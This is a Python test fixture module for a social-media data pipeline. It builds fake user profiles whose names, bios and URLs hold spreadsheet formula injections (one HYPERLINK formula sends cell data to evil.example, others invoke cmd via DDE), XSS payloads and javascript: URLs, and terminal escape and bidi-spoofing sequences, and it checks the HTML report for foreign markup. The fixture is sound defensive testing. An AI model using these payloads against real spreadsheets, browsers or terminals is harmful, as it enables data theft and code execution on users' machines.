"""Hostile profiles: user objects whose names, bios, locations and URLs attack whoever reads them.

Generated here (nothing copied from ``../shared``): formula cells for a spreadsheet, markup and
``javascript:`` URLs for a browser, ANSI, OSC and bidi sequences for a terminal, and a bio of
10,000 characters. :func:`hostile_users` spreads them over ordinary, kept individuals (big
enough, no brand or risk word), so every one of them reaches the dataset, the export, the report
and the QA sample. :func:`write_hostile_inputs` writes them as a prefetched users file (the
``--source prefetched:FILE`` of ``influx-harvest``) with the seed list that names them.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from influx_etl.config import LookupSettings, OutputPaths, PipelineConfig
from influx_etl.pipeline import run_harvest
from influx_etl.safe_text import CONTROL_CODES, FORMULA_TRIGGERS
from tests.run_dataset import RULES

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "plain;=1+1",
)
MARKUP = (
    "<script>alert('name')</script>",
    '<img src=x onerror="alert(1)">',
    "</td></tr></table><h1>owned</h1>",
    '"><svg onload=alert(1)>',
)
TERMINAL = (
    "\x1b[31mred\x1b[0m and \x1b[2J cleared",
    "\x1b]0;pwned title\x07",
    "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "bell \x07\x07",
    "looks fine\rDROPPED",
    "\u202etxt.exe",
    "\u2066isolated\u2069 \u200fmark",
    "c1 \x9b31m csi",
)
HOSTILE_URLS = (
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://ok.example/"onmouseover="alert(1)',
    "vbscript:msgbox(1)",
)
PLAIN_URLS = ("https://example.com/about", "http://blog.example.net/")
LONG_BIO = "=" + "<script>alert(1)</script>\x1b[5m" * 30 + "z" * (10_000 - 1 - 30 * 29)
"""10,000 characters: a formula, markup and an escape, then filler."""

HOSTILE_TEXTS = (*FORMULAS, *MARKUP, *TERMINAL)
NOT_FOUND_HANDLE = "hostile_gone"
NOT_FOUND_DETAIL = "Could not find user \x1b]0;pwned\x07 \x1b[31mwith username\x1b[0m"
"""The prefetched file answers this handle with an API error whose detail is hostile."""

CONTROL_IN_FIXTURE = frozenset(
    ch
    for text in (*HOSTILE_TEXTS, *HOSTILE_URLS, LONG_BIO, NOT_FOUND_DETAIL)
    for ch in text
    if ord(ch) in CONTROL_CODES
)
"""The control characters the fixture holds (tab, CR, ESC, BEL, C1, bidi)."""


def _user(index: int, name: str, bio: str, location: str, url: str, bio_url: str) -> dict[str, Any]:
    return {
        "id": str(7_000_000 + index),
        "username": f"hostile_{index}",
        "name": name,
        "description": bio,
        "location": location,
        "url": url,
        "entities": {
            "url": {"urls": [{"url": "https://t.co/a", "expanded_url": url}]},
            "description": {"urls": [{"url": "https://t.co/b", "expanded_url": bio_url}]},
        },
        "created_at": "2012-01-01T00:00:00.000Z",
        "verified": False,
        "verified_type": "none",
        "protected": False,
        "public_metrics": {
            "followers_count": 500_000 + index,
            "following_count": 500,
            "tweet_count": 9000,
            "listed_count": 900,
            "like_count": 1000,
            "media_count": 10,
        },
    }


def hostile_users() -> list[dict[str, Any]]:
    """One kept individual per hostile text as its name, the others as bio and location; URLs
    cycle through the hostile and the plain ones; the last one has the 10,000-character bio."""
    texts, urls = HOSTILE_TEXTS, (*HOSTILE_URLS, *PLAIN_URLS)
    users = [
        _user(
            index,
            name=text,
            bio=f"{texts[(index + 1) % len(texts)]} writes {texts[(index + 2) % len(texts)]}",
            location=texts[(index + 3) % len(texts)],
            url=urls[index % len(urls)],
            bio_url=urls[(index + 1) % len(urls)],
        )
        for index, text in enumerate(texts)
    ]
    users.append(_user(len(texts), "Long Bio", LONG_BIO, "-1", HOSTILE_URLS[0], PLAIN_URLS[0]))
    return users


@dataclass(frozen=True)
class HostileInputs:
    seeds: Path
    prefetched: Path
    users: list[dict[str, Any]]


def write_hostile_inputs(folder: Path) -> HostileInputs:
    """The seed list and the prefetched users file of :func:`hostile_users` (one handle answered
    by an error with a hostile detail)."""
    users = hostile_users()
    folder.mkdir(parents=True, exist_ok=True)
    seeds = folder / "hostile.csv"
    handles = [user["username"] for user in users] + [NOT_FOUND_HANDLE]
    seeds.write_text(
        "handle,category,source,note\n" + "".join(f"{h},science,test,\n" for h in handles),
        encoding="utf-8",
    )
    error = {
        "value": NOT_FOUND_HANDLE,
        "detail": NOT_FOUND_DETAIL,
        "title": "Not Found Error",
        "resource_type": "user",
        "parameter": "usernames",
        "resource_id": NOT_FOUND_HANDLE,
        "type": "https://api.twitter.com/2/problems/resource-not-found",
    }
    prefetched = folder / "prefetched.jsonl"
    lines = [json.dumps(user, ensure_ascii=False) for user in users]
    lines.append(json.dumps({"data": [], "errors": [error]}, ensure_ascii=False))
    prefetched.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return HostileInputs(seeds=seeds, prefetched=prefetched, users=users)


# -- reading what people get ----------------------------------------------------------------------


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would take this cell as a formula (a plain number is a value)."""
    if not cell or cell[0] not in FORMULA_TRIGGERS:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


REPORT_TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h1",
        "h2",
        "h3",
        "p",
        "span",
        "nav",
        "a",
        "section",
        "img",
        "div",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "bdi",
        "footer",
    ]
)
"""Every element the report itself writes."""
REPORT_ATTRIBUTES = frozenset(
    ["lang", "charset", "http-equiv", "content", "name", "class", "href", "id", "alt", "src", "rel"]
)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.style = ""
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style += data
        else:
            self.texts.append(data)


def parsed_page(page: str) -> _Page:
    parser = _Page()
    parser.feed(page)
    parser.close()
    return parser


def foreign_markup(page: str) -> list[str]:
    """What in an HTML page the report did not write itself: an element or attribute it never
    writes, a link that is not ``#anchor`` or one of :data:`PLAIN_URLS` with the safe ``rel``,
    an image that is not an embedded PNG."""
    problems = []
    for tag, attrs in parsed_page(page).elements:
        if tag not in REPORT_TAGS:
            problems.append(f"element <{tag}>")
        problems += [f"attribute {name} on <{tag}>" for name in set(attrs) - REPORT_ATTRIBUTES]
        href, src = attrs.get("href"), attrs.get("src")
        safe_link = href in PLAIN_URLS and attrs.get("rel") == "noopener noreferrer nofollow"
        if href is not None and not href.startswith("#") and not safe_link:
            problems.append(f"link {href!r} rel={attrs.get('rel')!r}")
        if src is not None and not src.startswith("data:image/png;base64,"):
            problems.append(f"image {src!r}")
    return problems


# -- a dataset of them, made by the pipeline ------------------------------------------------------


def build_hostile_dataset(root: Path) -> Path:
    """Harvest the hostile profiles from their prefetched file (the real pipeline, in process)
    into ``root/data``; returns the dataset file (its export is in ``latest/`` beside it)."""
    inputs = write_hostile_inputs(root / "inputs")
    config = PipelineConfig(
        seed_paths=(inputs.seeds,),
        lookup=LookupSettings(source=f"prefetched:{inputs.prefetched}", batch_size=10),
        rules=RULES,
        outputs=OutputPaths(data_dir=root / "data"),
    )
    return run_harvest(config).dataset


_BUILT: dict[str, Path] = {}


def hostile_dataset(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """:func:`build_hostile_dataset`, once per test session (copy the file before writing)."""
    if "dataset" not in _BUILT:
        _BUILT["dataset"] = build_hostile_dataset(tmp_path_factory.mktemp("hostile-dataset"))
    return _BUILT["dataset"]
